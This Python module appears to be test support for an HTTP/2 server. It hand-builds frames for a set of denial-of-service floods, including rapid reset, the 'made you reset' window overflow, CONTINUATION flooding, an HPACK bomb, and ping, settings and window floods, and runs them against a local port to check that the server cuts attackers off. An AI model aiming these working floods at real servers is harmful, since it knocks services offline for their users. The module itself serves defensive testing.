"""Small HTTP/2 clients that attack: frames made by hand, and what comes back taken apart by hand.

A flood is a function from a running number to (bytes, how many frames they are). As a program it attacks again and again
until its input ends, a process of its own, so that a test's clock does not measure its own interpreter; or it visits, with
so many requests, which is no attack. EVERY: seconds from one to the next, 0 = at once. Prints how many there were.

    python -m support.attacker PORT CA FLOOD|visit REQUESTS EVERY
"""

import contextlib
import functools
import socket
import ssl
import struct
import sys
import threading
import time

HOST = "own.example.com"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
REFUSED = 7  # REFUSED_STREAM
MOST_FRAMES = 200  # within which an attacker must be cut
STREAMS = 48  # MAX_CONCURRENT_STREAMS
PATIENT = 10  # at a time, of those whose attack is to wait


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head(path=b"/gate/attack", method=b"GET"):
    return b"".join(literal(n, v) for n, v in ((b":method", method), (b":scheme", b"https"),
                                               (b":authority", HOST.encode()), (b":path", path)))


def setting(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


def rapid_reset(i):
    return frame(HEADERS, 5, 2 * i + 1, head()) + frame(RST, 0, 2 * i + 1, struct.pack(">I", 8)), 2


def made_you_reset(i):
    """The server is made to reset, by a window above 2^31-1 (CVE-2025-8671)."""
    return frame(HEADERS, 5, 2 * i + 1, head()) + frame(WINDOW, 0, 2 * i + 1, struct.pack(">I", 0x7FFFFFFF)), 2


def continuation(i):
    return (frame(HEADERS, 1, 1, head()) if i == 0 else frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 100))), 1


def hpack_bomb(i):
    """One large field in the table, then a byte for each time that it is named again."""
    if i == 0:
        return frame(HEADERS, 5, 1, head() + b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4000), 1
    return frame(HEADERS, 5, 2 * i + 1, head() + b"\xbe" * 16_000), 1


def settings(i):
    return setting((4, 1000 + i)), 1


def pings(_):
    return frame(PING, 0, 0, b"12345678"), 1


def priorities(_):
    return frame(PRIORITY, 0, 1, b"\0\0\0\0\x10"), 1


def empty_data(i):
    return (frame(HEADERS, 4, 1, head(b"/upload", b"PUT")) if i == 0 else frame(DATA, 0, 1)), 1


def windows(_):
    return frame(WINDOW, 0, 0, struct.pack(">I", 1)), 1


def crumbs(i):
    """A large answer, asked for byte by byte."""
    if i == 0:
        return setting((4, 0)) + frame(HEADERS, 5, 1, head(b"/bytes/100000")), 2
    return frame(WINDOW, 0, 1, struct.pack(">I", 1)), 1


FLOODS = [rapid_reset, made_you_reset, continuation, hpack_bomb, settings, pings, priorities, empty_data, windows, crumbs]


class Attacker:
    """One connection. `settings` are (number, value) pairs, `window` what is added to the connection's.
    Without `knows` it never says that it knows ours."""

    def __init__(self, port, context, settings=(), window=0, rcvbuf=None, within=15.0, knows=True):
        sock = socket.socket()
        if rcvbuf:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.settimeout(within)
        sock.connect(("127.0.0.1", port))
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock = context.wrap_socket(sock, server_hostname=HOST)
        self.buffer = b""
        self.closed, self.goaway, self.refused = False, None, 0
        self.seen = {}  # how many frames of each kind came
        self.sock.sendall(PREFACE + setting(*settings)
                          + (frame(WINDOW, 0, 0, struct.pack(">I", window)) if window else b""))
        self.until(SETTINGS, 2)  # theirs, and that they took ours
        if knows:
            self.send(frame(SETTINGS, 1))

    def close(self):
        self.sock.close()

    def send(self, data):
        """False when the other side is gone."""
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            return False

    def pump(self):
        """Receives once; false at the end of the connection."""
        try:
            data = self.sock.recv(65536)
        except (ConnectionError, ssl.SSLEOFError, ssl.SSLZeroReturnError):
            data = b""
        self.buffer += data
        while len(self.buffer) >= 9 and len(self.buffer) >= (size := 9 + int.from_bytes(self.buffer[:3], "big")):
            kind = self.buffer[3]
            self.seen[kind] = self.seen.get(kind, 0) + 1
            if kind == RST and int.from_bytes(self.buffer[9:13], "big") == REFUSED:
                self.refused += 1
            if kind == GOAWAY:
                self.goaway = int.from_bytes(self.buffer[13:17], "big")
            self.buffer = self.buffer[size:]
        self.closed = not data
        return bool(data)

    def until(self, kind, count):
        while self.seen.get(kind, 0) < count and self.goaway is None and self.pump():
            pass

    def flood(self, make):
        """At most MOST_FRAMES; how many went."""
        frames = 0
        for i in range(MOST_FRAMES):
            data, count = make(i)
            if frames + count > MOST_FRAMES or not self.send(data):
                break
            frames += count
            if make is made_you_reset and i % 32 == 31:
                self.until(RST, i + 1)  # or there would be too many streams at a time
            if make is crumbs:
                self.until(DATA if i > 0 else HEADERS, max(i, 1))  # or several would be answered by one DATA
        return frames

    def ends(self):
        """Reads until the other side is gone; the error code of its GOAWAY."""
        while self.pump():
            pass
        return self.goaway


def attack(port, context, make):
    attacker = Attacker(port, context, within=2)
    with contextlib.suppress(TimeoutError):  # who was too slow on a busy machine is not cut
        attacker.flood(make)
        attacker.ends()
    attacker.close()


def zero_windows(port, context):
    """As much asked for as may be, and nothing taken, until that is cut."""
    attacker = Attacker(port, context, settings=[(4, 0)])
    attacker.send(b"".join(frame(HEADERS, 5, 2 * i + 1, head(b"/bytes/100000")) for i in range(STREAMS)))
    attacker.ends()
    attacker.close()


def visit(port, context, requests):
    """What is no attack: so many answers asked for, and taken."""
    visitor = Attacker(port, context)
    visitor.send(b"".join(frame(HEADERS, 5, 2 * i + 1, head(b"/bytes/1000")) for i in range(requests)))
    visitor.until(DATA, requests)
    visitor.close()


def main():
    port, ca, name, requests, every = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    one = {f.__name__: functools.partial(attack, make=f) for f in FLOODS} | {f.__name__: f for f in [zero_windows]}
    one["visit"] = functools.partial(visit, requests=requests)
    stop = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
    counts = []

    def go_on():
        due = time.monotonic()
        while not stop.is_set():
            one[name](port, context)
            counts.append(1)
            due = max(due + every, time.monotonic() - every)
            stop.wait(due - time.monotonic())

    threads = [threading.Thread(target=go_on) for _ in range(PATIENT if name == zero_windows.__name__ else 1)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(len(counts))


if __name__ == "__main__":
    main()
